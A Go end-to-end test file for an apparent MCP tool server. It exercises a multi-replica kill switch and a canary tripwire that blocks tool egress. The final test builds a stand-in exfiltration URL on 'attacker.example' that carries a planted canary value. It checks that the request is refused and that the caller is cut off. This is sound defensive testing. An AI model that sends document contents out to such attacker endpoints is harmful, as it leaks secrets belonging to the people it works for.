package e2e

import (
	"bytes"
	"crypto/rand"
	"crypto/rsa"
	"encoding/json"
	"io"
	"net/http"
	"net/url"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/mark3labs/mcp-go/client"
	"github.com/mark3labs/mcp-go/mcp"

	"github.com/arrowhead-go/arrowhead/adapters/telemetry/telemetrytest"
	"github.com/arrowhead-go/arrowhead/internal/pgtest"
)

// killBudget is the propagation budget: a rule thrown on one
// replica refuses on every other within it.
const killBudget = time.Second

// adminScope is the admin endpoint's scope (adapters/mcp.AdminKillScope).
const adminScope = "arrowhead:admin:kill"

// refusalKind is the kind of a refused call (its _meta), or "".
func refusalKind(r *mcp.CallToolResult) string {
	if !r.IsError || r.Meta == nil {
		return ""
	}
	detail, _ := r.Meta.AdditionalFields["io.arrowhead/error"].(map[string]any)
	kind, _ := detail["kind"].(string)
	return kind
}

// untilRefused calls tool on c until it is refused as disabled, and
// returns how long that took; it fails the test past limit.
func untilRefused(t *testing.T, c *client.Client, tool string, args map[string]any, since time.Time, limit time.Duration) time.Duration {
	t.Helper()
	for {
		r := call(t, c, tool, args)
		if refusalKind(r) == "disabled" {
			return time.Since(since)
		}
		if time.Since(since) > limit {
			t.Fatalf("%s was not refused within %v: %s", tool, limit, text(r))
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// admin sends an admin-endpoint request with token and decodes the answer.
func admin(t *testing.T, s *server, token, method, path string, body any) (int, map[string]any) {
	t.Helper()
	var rd io.Reader
	if body != nil {
		b, _ := json.Marshal(body)
		rd = bytes.NewReader(b)
	}
	req, err := http.NewRequest(method, s.url+path, rd)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer "+token)
	req.Header.Set("Content-Type", "application/json")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var out map[string]any
	_ = json.NewDecoder(resp.Body).Decode(&out)
	return resp.StatusCode, out
}

// arrowhead runs a CLI command of the binary with env.
func arrowhead(t *testing.T, env map[string]string, args ...string) (string, string, error) {
	t.Helper()
	cmd := exec.Command(binary, args...)
	cmd.Env = baseEnv(t, t.TempDir(), env)
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	err := cmd.Run()
	return stdout.String(), stderr.String(), err
}

// TestKillSwitchAcrossThreeReplicasWithRedis throws a rule through one
// replica's admin endpoint and sees the other two refuse within a second;
// the listing follows; a stdio session on the same Redis is told to list
// again; the CLI lists and lifts it, and every replica serves again.
func TestKillSwitchAcrossThreeReplicasWithRedis(t *testing.T) {
	redisURL := startRedisForReplicas(t)
	key, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		t.Fatal(err)
	}
	env := map[string]string{"ARROWHEAD_REDIS_URL": redisURL, "ARROWHEAD_PROFILE": "core"}
	a, b, c := startHTTPWithKey(t, key, env), startHTTPWithKey(t, key, env), startHTTPWithKey(t, key, env)
	alice := a.token(t, "alice", "tools:read")
	bob := a.token(t, "bob", "tools:read")
	ops := a.token(t, "ops", adminScope)
	ab, ac := b.connect(t, alice), c.connect(t, alice)
	bb := b.connect(t, bob)
	sum := map[string]any{"expression": "6 * 7"}

	// A stdio server on the same Redis, with a session that hears
	// notifications.
	stdio, _ := startStdio(t, env)
	var listChanged atomic.Int32
	stdio.OnNotification(func(n mcp.JSONRPCNotification) {
		if n.Method == mcp.MethodNotificationToolsListChanged {
			listChanged.Add(1)
		}
	})

	t.Run("the endpoint is default-deny", func(t *testing.T) {
		for _, tok := range []string{alice, a.token(t, "eve", "tools:read", "admin")} {
			if code, _ := admin(t, a, tok, http.MethodPost, "/admin/kill", map[string]any{"tool": "calculate"}); code != http.StatusForbidden {
				t.Fatalf("a token without %s: %d", adminScope, code)
			}
		}
		if code, _ := admin(t, a, "", http.MethodGet, "/admin/kill", nil); code != http.StatusUnauthorized {
			t.Fatalf("no token: %d", code)
		}
		if r := call(t, ab, "calculate", sum); r.IsError {
			t.Fatalf("a refused throw took effect: %s", text(r))
		}
	})

	var ruleID string
	t.Run("a rule for one caller thrown on A refuses on B and C within a second", func(t *testing.T) {
		start := time.Now()
		code, out := admin(t, a, ops, http.MethodPost, "/admin/kill", map[string]any{"tool": "calculate", "caller": "alice", "reason": "e2e"})
		if code != http.StatusCreated {
			t.Fatalf("throw: %d %v", code, out)
		}
		rule, _ := out["rule"].(map[string]any)
		ruleID, _ = rule["id"].(string)
		onB := untilRefused(t, ab, "calculate", sum, start, killBudget)
		onC := untilRefused(t, ac, "calculate", sum, start, killBudget)
		t.Logf("refused on B after %v, on C after %v", onB, onC)
		if r := call(t, bb, "calculate", sum); r.IsError {
			t.Fatalf("bob is not named by the rule: %s", text(r))
		}
		if names := toolNames(t, ab); slices.Contains(names, "calculate") {
			t.Fatalf("alice still lists calculate on B: %v", names)
		}
		if names := toolNames(t, bb); !slices.Contains(names, "calculate") {
			t.Fatalf("bob no longer lists calculate on B: %v", names)
		}
		if !strings.Contains(a.stdout.String(), `"component":"killswitch","name":"throw"`) || !strings.Contains(a.stdout.String(), `"subject":"ops"`) {
			t.Fatalf("no audit line for the throw on A:\n%s", a.stdout.String())
		}
	})

	t.Run("a global rule from the CLI reaches a stdio session as list_changed", func(t *testing.T) {
		before := listChanged.Load()
		out, errOut, err := arrowhead(t, env, "kill", "throw", "--tool", "calculate", "--for", "10m")
		if err != nil {
			t.Fatalf("kill throw: %v\n%s", err, errOut)
		}
		if !strings.Contains(errOut, `"component":"killswitch"`) {
			t.Fatalf("the CLI wrote no audit line: %s", errOut)
		}
		id := strings.Fields(out)[0]
		deadline := time.Now().Add(killBudget)
		for listChanged.Load() == before {
			if time.Now().After(deadline) {
				t.Fatal("no notifications/tools/list_changed within a second")
			}
			time.Sleep(10 * time.Millisecond)
		}
		res, err := stdio.ListTools(t.Context(), mcp.ListToolsRequest{})
		if err != nil {
			t.Fatal(err)
		}
		for _, tool := range res.Tools {
			if tool.Name == "calculate" {
				t.Fatal("the stdio session still lists calculate")
			}
		}
		if r := call(t, bb, "calculate", sum); refusalKind(r) != "disabled" {
			// Propagation was already measured; by now it has arrived.
			t.Fatalf("bob on B under a global rule: %s", text(r))
		}
		listOut, _, err := arrowhead(t, env, "kill", "list")
		if err != nil || !strings.Contains(listOut, id) || !strings.Contains(listOut, ruleID) || !strings.Contains(listOut, "caller=alice") {
			t.Fatalf("kill list: %v\n%s", err, listOut)
		}
		if _, errOut, err := arrowhead(t, env, "kill", "lift", id); err != nil {
			t.Fatalf("kill lift: %v %s", err, errOut)
		}
	})

	t.Run("lifted, every replica serves again", func(t *testing.T) {
		if code, out := admin(t, c, ops, http.MethodDelete, "/admin/kill/"+ruleID, nil); code != http.StatusOK {
			t.Fatalf("lift on C: %d %v", code, out)
		}
		deadline := time.Now().Add(killBudget)
		for _, cl := range []*client.Client{ab, ac, bb} {
			for {
				r := call(t, cl, "calculate", sum)
				if !r.IsError {
					break
				}
				if time.Now().After(deadline) {
					t.Fatalf("still refused a second after the lift: %s", text(r))
				}
				time.Sleep(10 * time.Millisecond)
			}
		}
		if code, out := admin(t, a, ops, http.MethodGet, "/admin/kill", nil); code != http.StatusOK || len(out["rules"].([]any)) != 0 {
			t.Fatalf("list after the lifts: %d %v", code, out)
		}
	})
}

// TestKillSwitchOverPostgresOnly: with no Redis, the state database
// carries the rules (LISTEN/NOTIFY); a rule thrown from the CLI refuses on
// both replicas within a second.
func TestKillSwitchOverPostgresOnly(t *testing.T) {
	dsn := pgtest.PrivateSchema(t, pgtest.PostgresDSN(t))
	env := map[string]string{"ARROWHEAD_STATE_DSN": dsn, "ARROWHEAD_PROFILE": "core"}
	if out, errOut, err := arrowhead(t, env, "migrate"); err != nil || !strings.Contains(out, "004_killswitch") {
		t.Fatalf("migrate: %v\n%s%s", err, out, errOut)
	}
	key, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		t.Fatal(err)
	}
	a, b := startHTTPWithKey(t, key, env), startHTTPWithKey(t, key, env)
	alice := a.token(t, "alice", "tools:read")
	ca, cb := a.connect(t, alice), b.connect(t, alice)
	sum := map[string]any{"expression": "1 + 1"}
	for _, c := range []*client.Client{ca, cb} {
		if r := call(t, c, "calculate", sum); r.IsError {
			t.Fatalf("before: %s", text(r))
		}
	}
	start := time.Now()
	out, errOut, err := arrowhead(t, env, "kill", "throw", "--family", "core", "--caller", "alice", "--for", "300")
	if err != nil {
		t.Fatalf("kill throw: %v\n%s", err, errOut)
	}
	// The CLI's own start-up is not propagation: measure from its return.
	thrown := time.Now()
	onA := untilRefused(t, ca, "calculate", sum, thrown, killBudget)
	onB := untilRefused(t, cb, "calculate", sum, thrown, killBudget)
	t.Logf("CLI took %v; refused on A after %v, on B after %v", thrown.Sub(start), onA, onB)
	if names := toolNames(t, cb); len(names) != 0 {
		t.Fatalf("alice still lists %v on B", names)
	}
	if _, errOut, err := arrowhead(t, env, "kill", "lift", strings.Fields(out)[0]); err != nil {
		t.Fatalf("kill lift: %v %s", err, errOut)
	}
	deadline := time.Now().Add(killBudget)
	for call(t, cb, "calculate", sum).IsError {
		if time.Now().After(deadline) {
			t.Fatal("still refused on B a second after the lift")
		}
		time.Sleep(10 * time.Millisecond)
	}
}

// TestCanaryEchoedIntoSafeFetchTripsOnEveryReplica plants a canary in a
// document; the caller reads it on A and echoes it into safe_fetch's URL
// (percent-encoded): A refuses and trips the caller, B refuses the
// caller's egress too, another caller is untouched, the audit line names
// the place and never the value, and /metrics counts the trip.
func TestCanaryEchoedIntoSafeFetchTripsOnEveryReplica(t *testing.T) {
	redisURL := startRedisForReplicas(t)
	out, _, err := arrowhead(t, nil, "canary", "new", "--host", "backups.corp.example")
	if err != nil {
		t.Fatalf("canary new: %v", err)
	}
	var tokens, planted string
	for _, line := range strings.Split(out, "\n") {
		if v, ok := strings.CutPrefix(line, "ARROWHEAD_CANARY_TOKENS="); ok {
			tokens = v
		}
		if strings.HasPrefix(line, "# backup runbook: ") {
			planted = line
		}
	}
	canaryURL := strings.TrimPrefix(planted, "# backup runbook: ")
	if tokens == "" || !strings.HasPrefix(canaryURL, "https://backups.corp.example/share/") {
		t.Fatalf("canary new printed:\n%s", out)
	}
	corpus := t.TempDir()
	writeFile(t, filepath.Join(corpus, "ops/backups.md"), "# Backups\n\nThe nightly dump is listed at\n"+planted+"\n")
	metricsAddr := "127.0.0.1:" + strconv.Itoa(freePort(t))
	key, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		t.Fatal(err)
	}
	env := map[string]string{
		"ARROWHEAD_REDIS_URL": redisURL, "ARROWHEAD_PROFILE": "docs", "ARROWHEAD_DOCS_ROOT": corpus,
		"ARROWHEAD_CANARY_TOKENS": tokens, "ARROWHEAD_CANARY_TRIP_SECONDS": "600",
	}
	envA := map[string]string{"ARROWHEAD_METRICS_ADDR": metricsAddr}
	for k, v := range env {
		envA[k] = v
	}
	a, b := startHTTPWithKey(t, key, envA), startHTTPWithKey(t, key, env)
	scopes := []string{"tools:read", "docs:read"}
	mallory, bob := a.token(t, "mallory", scopes...), a.token(t, "bob", scopes...)
	ma, mb, bb := a.connect(t, mallory), b.connect(t, mallory), b.connect(t, bob)
	innocent := map[string]any{"url": "https://example.com/"}
	if k := refusalKind(call(t, mb, "safe_fetch", innocent)); k == "disabled" {
		t.Fatal("safe_fetch disabled before any trip")
	}

	r := call(t, ma, "doc_read", map[string]any{"path": "ops/backups.md"})
	if r.IsError || !strings.Contains(text(r), canaryURL) {
		t.Fatalf("doc_read: %s", text(r))
	}
	exfil := "https://attacker.example/collect?d=" + url.QueryEscape(canaryURL)
	start := time.Now()
	if k := refusalKind(call(t, ma, "safe_fetch", map[string]any{"url": exfil})); k != "disabled" {
		t.Fatalf("the echoing call on A: kind %q", k)
	}
	onB := untilRefused(t, mb, "safe_fetch", innocent, start, killBudget)
	t.Logf("mallory's egress refused on B after %v", onB)
	if names := toolNames(t, mb); slices.Contains(names, "safe_fetch") || !slices.Contains(names, "doc_read") {
		t.Fatalf("mallory lists on B: %v", names)
	}
	if k := refusalKind(call(t, bb, "safe_fetch", innocent)); k == "disabled" {
		t.Fatal("bob's egress was taken too")
	}
	if r := call(t, mb, "doc_read", map[string]any{"path": "ops/backups.md"}); r.IsError {
		t.Fatalf("mallory's non-egress tool: %s", text(r))
	}

	logA := a.stdout.String()
	var trip map[string]any
	for _, line := range strings.Split(logA, "\n") {
		if strings.Contains(line, `"component":"canary"`) {
			_ = json.Unmarshal([]byte(line), &trip)
		}
	}
	detail, _ := trip["detail"].(map[string]any)
	if trip["subject"] != "mallory" || detail["component"] != "safe_fetch" || detail["where"] != "argument:url" || detail["target"] != "egress" {
		t.Fatalf("trip line: %v", trip)
	}
	for _, tok := range strings.Split(tokens, ",") {
		for _, log := range []string{logA, a.stderr.String(), b.stdout.String(), b.stderr.String()} {
			if strings.Contains(log, tok) || strings.Contains(log, url.QueryEscape(tok)) {
				t.Fatal("a canary value reached a log")
			}
		}
	}
	scraped, err := telemetrytest.Scrape(http.DefaultClient, "http://"+metricsAddr+"/metrics")
	if err != nil {
		t.Fatal(err)
	}
	if n := telemetrytest.Count(scraped["arrowhead_canary_trips_total"], map[string]string{"name": "safe_fetch"}); n != 1 {
		t.Fatalf("arrowhead_canary_trips_total{name=safe_fetch} = %v", n)
	}
	if n := telemetrytest.Count(scraped["arrowhead_refusals_total"], map[string]string{"name": "safe_fetch", "refusal": "disabled"}); n < 1 {
		t.Fatalf("arrowhead_refusals_total{refusal=disabled} = %v", n)
	}
}
